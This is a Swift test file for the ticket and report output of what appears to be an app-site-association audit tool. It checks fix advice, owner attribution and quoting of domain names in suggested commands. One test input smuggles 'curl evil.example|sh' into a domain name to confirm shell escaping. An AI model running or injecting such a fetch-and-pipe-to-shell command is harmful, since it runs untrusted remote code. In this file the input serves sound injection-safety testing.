import Findings
import Testing
import Transport

@testable import Audit
@testable import Reports

/// The text to send to the role that can fix a problem.
@Suite struct HTMLTicketTests {
    /// So many domains that the problems of others are shown as separate fixes, and not only as rows.
    private static let well = (100..<120).map(Estate.well)

    @Test func ticketIsCompleteWithoutTheReport() {
        let text = TextReport.ticket(Estate.redirect(3)).joined(separator: "\n")
        #expect(
            text.hasPrefix("travel-3.example  FAIL  Links open the browser instead of the app on every Apple system\n"))
        for part in [
            "error  redirect  ", "Impact: ", "What to do: ", "To fix this on nginx:", "   Owner: Ada Lovelace",
            "To be fixed by the administrators of the web server or the CDN in front of it.",
            "After the fix: Run “aasa-audit travel-3.example” again", "root /var/www/travel-3.example;",
            "curl -sS -i 'https://travel-3.example/.well-known/apple-app-site-association'",
            "return 301 https://www.travel-3.example$request_uri;",
        ] {
            #expect(text.contains(part), "\(part)")
        }
    }

    @Test func oneRepairHasOneTicketForAllItsDomains() throws {
        let page = try PageSink.page(Estate(Estate.typical(300)))
        let rows = page.matches(of: #/<a class="row [a-z]+" id="d-([^"]*)"/#).map(\.1)
        let repair = try #require(
            page.firstMatch(of: #/id="repair-1" [^>]*data-rows="0-(\d+)"><b>(\d+)<\/b> domains</#))
        #expect(repair.1 == repair.2)
        let names = rows.prefix(try #require(Int(repair.1)))
        let ticket = try #require(page.firstMatch(of: #/<summary>Ticket text<\/summary><pre tabindex="0">([^<]*)</#)).1
        for name in names { #expect(ticket.contains("- \(name)&#10;")) }
        #expect(ticket.contains("Owner: ") && ticket.contains(" To be fixed by the "))
        #expect(ticket.contains("What to do for all "))
        let all = names.joined(separator: " ")
        let code = try #require(ticket.firstMatch(of: #/\[([a-z-]+)\]/#)).1
        let proof = "Fixed when this command reports &#8220;\(code)&#8221; on none of the \(repair.2) domains"
        #expect(ticket.contains("\(proof): &#8220;aasa-audit \(all)&#8221;."), "\(ticket)")
        let many = try PageSink.page(Estate(Estate.typical(600)))
        let quickCheck =
            #/when a new run reports &#8220;[a-z-]+&#8221; on none of the 20 domains; for a quick check: &#8220;aasa-audit /#
        #expect(many.contains(quickCheck))
    }

    /// A ticket about a certificate that ends soon names its warning: that there is no error does not show a renewal.
    @Test func aTicketIsNotFixedBeforeAnythingWasDone() throws {
        let page = try PageSink.page(Estate((0..<3).map { Estate.warned($0) } + Self.well))
        let ticket = try #require(page.firstMatch(of: #/<summary>Ticket text<\/summary><pre tabindex="0">([^<]*)</#)).1
        #expect(
            ticket.contains("reports &#8220;tls-certificate-expiring&#8221; on none of the 3 domains: &#8220;"),
            "\(ticket)")
    }

    /// The name of a domain in a stored report can be any text, and shells interpret the brackets of an address.
    @Test(arguments: [
        (DomainID(host: "2001:db8::1", port: 8443), "'[2001:db8::1]:8443'"), (DomainID(host: "a.example"), "a.example"),
        (
            DomainID(host: "a.example", displayHost: "a.example;curl evil.example|sh"),
            "'a.example;curl evil.example|sh'"
        ),
        (DomainID(host: "a.example", displayHost: "$(it's)"), #"'$(it'\''s)'"#),
    ])
    func aNameIsOneWordOfACommand(_ domain: DomainID, _ word: String) throws {
        let reports = (0..<12).map { number in
            var report = Estate.warned(number)
            if number == 0 { report.domain = domain }
            return report
        }
        #expect(FixAdvice.verification(of: reports[0]).hasPrefix("Run “aasa-audit \(word)” again: "))
        for count in [2, 12] {
            let page = try PageSink.page(Estate(reports.prefix(count) + Self.well))
            let ticket = try #require(
                page.firstMatch(of: #/<summary>Ticket text<\/summary><pre tabindex="0">([^<]*)</#)
            ).1
            #expect(ticket.contains("&#8220;aasa-audit \(EscapedText.escape(word)) "), "\(ticket)")
        }
    }

    /// Lists, tickets and domains name the same role; for example, the author of a file must fix its size.
    @Test func namesWhoCanFixThisKindOfFinding() throws {
        let reports = (0..<2).map { number in
            var report = Estate.brokenFile(number)
            report.findings = [Finding(.fileOversized, location: .wellKnown, message: "Too large.")]
            (report.people.owner, report.people.team, report.people.contact) = ("Dana", nil, nil)
            return report
        }
        let page = try PageSink.page(Estate(reports + Self.well))
        let ticket = try #require(page.firstMatch(of: #/<summary>Ticket text<\/summary><pre tabindex="0">([^<]*)</#)).1
        #expect(ticket.contains("Owner: Dana. To be fixed by the file&#39;s maintainers"), "\(ticket)")
        #expect(!page.contains("The administrators of the web server or the CDN in front of it"))
    }
}
